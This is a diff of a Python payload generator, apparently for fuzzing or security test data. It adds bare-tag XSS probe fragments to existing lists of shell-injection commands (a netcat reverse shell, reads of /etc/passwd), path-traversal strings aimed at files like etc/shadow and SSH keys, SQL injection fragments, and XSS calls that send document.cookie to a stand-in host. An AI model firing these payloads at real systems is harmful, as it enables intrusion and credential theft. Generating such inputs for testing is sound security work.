@@ -37,6 +37,7 @@ COMMANDS = ["id", "cat /etc/passwd", "whoami", "uname -a", "ls -la /", "sleep 2"
             "nc 127.0.0.1 4444 -e /bin/sh", "expr 268409241 - 2", "printenv", "ifconfig", "net user", "php -r 'phpinfo();'", "python -c 'print(1)'", "rm -f /tmp/f", "head /etc/hosts", "find / -name '*.conf'", "ps -ef", "netstat -ano"]
 FILES = ["etc/passwd", "etc/shadow", "etc/hosts", "windows/win.ini", "boot.ini", "proc/self/environ", "var/log/apache2/access.log", "wp-config.php", "WEB-INF/web.xml", "etc/group", "root/.ssh/id_rsa", "etc/nginx/nginx.conf", ".env", "winnt/repair/sam", "proc/version", "home/user/.bash_history"]
 CLIMBS = ["../", "..\\", "..%2f", "%2e%2e/", "..%252f", "....//", "..;/", "%c0%ae%c0%ae/", "..%5c", "..%c0%af", "/..", "./../"]
+BARE = ["script", "br", "p", "b", "h1", "img", "table", "meta", "frameset", "style", "div", "a", "embed", "link", "base", "form", "textarea", "noscript", "svg", "iframe"]
 HANDLERS = ["onerror", "onload", "onmouseover", "onfocus", "onclick", "ontoggle", "onpointerenter", "onanimationstart", "onbegin"]
 CALLS = ["alert(1)", "alert(document.domain)", "confirm`1`", "prompt(document.cookie)", "eval(atob('YWxlcnQoMSk='))", "fetch('//x.example/'+document.cookie)", "alert(String.fromCharCode(88,83,83))", "location='//x.example'", "top['al'+'ert'](1)", "import('//x.example/a.js')"]
 TAGS = ["img src=x", "svg", "body", "iframe srcdoc=x", "input autofocus", "details open", "video><source", "math", "marquee", "a href=x", "object data=x", "div style=width:9em", "select", "audio src"]
@@ -51,6 +52,9 @@ def variant(kind, rng):
         return rng.choice(["", "", "/", f"{noun}/", "file://", "php://filter/read=convert.base64-encode/resource=", "/var/www/"]) + rng.choice(CLIMBS) * rng.randrange(1, 11) + rng.choice(FILES) + rng.choice(["", "", "", "%00", "%00.png", "?", "#", ".html"])
     if kind == "xss":
         call = rng.choice(CALLS)
+        if rng.random() < .15:
+            # The first try is often no more than whether a tag or a call comes back as it was.
+            return rng.choice([f"<{rng.choice(TAGS).split()[0]}", f"<{rng.choice(BARE)}", f"<{rng.choice(BARE)}>", f"{rng.choice(['alert', 'prompt', 'confirm'])}(", "javascript:", f"{rng.choice(HANDLERS)}=", f"'\"><{rng.choice(BARE)}>", f"{noun}<{rng.choice(BARE)} "])
         return rng.choice(["", "\">", "'>", f"{noun}\">", "</script>", "-->", "';", "\" "]) + rng.choice([f"<script>{call}</script>", f"<ScRiPt >{call}</ScRiPt>", f"<{rng.choice(TAGS)} {rng.choice(HANDLERS)}={call}>", f"<{rng.choice(TAGS)}/{rng.choice(HANDLERS)}=\"{call}\">", f"javascript:{call}",
                           f"{rng.choice(HANDLERS)}={call} x=", f"<script src=//x.example/{noun}.js></script>", f"<img src=\"x\" {rng.choice(HANDLERS)}='{call}'", f"<a href=\"data:text/html;base64,PHNjcmlwdD4=\">{noun}</a>", f"${{{call}}}"])
     columns = ",".join(rng.choice(["NULL", str(i), "@@version", "user()", "CONCAT(0x7e,database())", "CHAR(113,120)", "table_name"]) for i in range(rng.randrange(1, 12)))
